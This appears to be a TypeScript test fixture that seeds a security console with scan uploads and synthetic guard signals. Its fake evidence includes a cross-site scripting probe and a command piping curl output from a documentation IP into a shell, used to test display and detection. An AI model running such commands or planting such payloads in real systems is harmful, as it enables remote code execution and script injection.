import { upload } from './upload.ts';

/** How a test calls the API of a console as its administrator. */
export interface Administrator {
  readonly origin: string;
  readonly cookie: string;
}

/** Sends a document to the API; throws the server's sentence if it is refused. */
export async function post(
  origin: string,
  path: string,
  headers: Readonly<Record<string, string>>,
  body: string,
): Promise<unknown> {
  const answer = await fetch(`${origin}${path}`, { method: 'POST', headers, body });
  const text = await answer.text();
  if (!answer.ok) throw new Error(`${path}: ${answer.status} ${text}`);
  return JSON.parse(text);
}

/** Makes a token of the console. */
export async function makeToken(
  { origin, cookie }: Administrator,
  fields: Readonly<Record<string, string>>,
): Promise<string> {
  const made = await post(origin, '/v1/tokens', { cookie }, JSON.stringify(fields));
  return (made as { readonly token: string }).token;
}

/** Text of an attacker: it must be shown as text. */
export const hostile = '<img src=x onerror=alert(1)>';

/** Fills a console with an app that was scanned, runs, and was attacked. */
export async function fill(administrator: Administrator): Promise<void> {
  const { origin } = administrator;
  const uploads = await makeToken(administrator, { kind: 'upload', name: 'ci-shop', team: 'shop' });
  for (const document of [upload('shop'), upload('billing'), upload('media')])
    await post(origin, '/v1/scans', { authorization: `Bearer ${uploads}` }, JSON.stringify(document));
  const guard = await makeToken(administrator, {
    kind: 'guard',
    name: 'guard-shop',
    team: 'shop',
    app: 'shop',
    environment: 'prod',
  });
  const lines = signals().map((signal) => JSON.stringify(signal));
  await post(origin, '/v1/signals', { authorization: `Bearer ${guard}` }, lines.join('\n'));
}

const ago = (minutes: number): string => new Date(Date.now() - minutes * 60_000).toISOString();

function signals(): readonly unknown[] {
  const common = {
    schema: 'emmental/signal/1',
    app: 'shop',
    level: 'in-process',
    guardVersion: '0.4.1',
    profileDigest: 'a41c9e7711',
  };
  const threats = Array.from({ length: 60 }, (_, at) => ({
    ...common,
    kind: at % 4 === 0 ? 'block' : 'alert',
    id: `em-${String(at).padStart(16, '0')}`,
    time: ago(at * 90 + 1),
    function: at % 3 === 0 ? 'Thumbnails' : 'OrdersApi',
    invocation: `c0ffee-${at}`,
    section: at % 4 === 0 ? 'processes' : 'outbound',
    rule: '(all other)',
    decision: 'deny',
    mode: at % 4 === 0 ? 'enforce' : 'alert',
    evidence: {
      what: at === 1 ? hostile : at % 4 === 0 ? '/bin/sh -c "curl 198.51.100.7|sh"' : '198.51.100.7:443',
      api: at % 4 === 0 ? 'child_process.exec' : 'fetch',
      path: 'Records[0].s3.object.key',
      proof: 'the event’s text became 2 new shell words',
      stack: ['src/thumbnail.ts:18', 'src/handler.ts:7'],
    },
  }));
  const hits = ['Thumbnails', 'OrdersApi'].map((name) => ({
    ...common,
    kind: 'hits',
    id: `em-hits${name.length}`,
    time: ago(1),
    function: name,
    section: null,
    rule: null,
    mode: null,
    evidence: { hits: { upload: 8_214, aws: 16_400, resize: 8_211 }, invocations: 8_214 },
  }));
  return [...threats, ...hits];
}
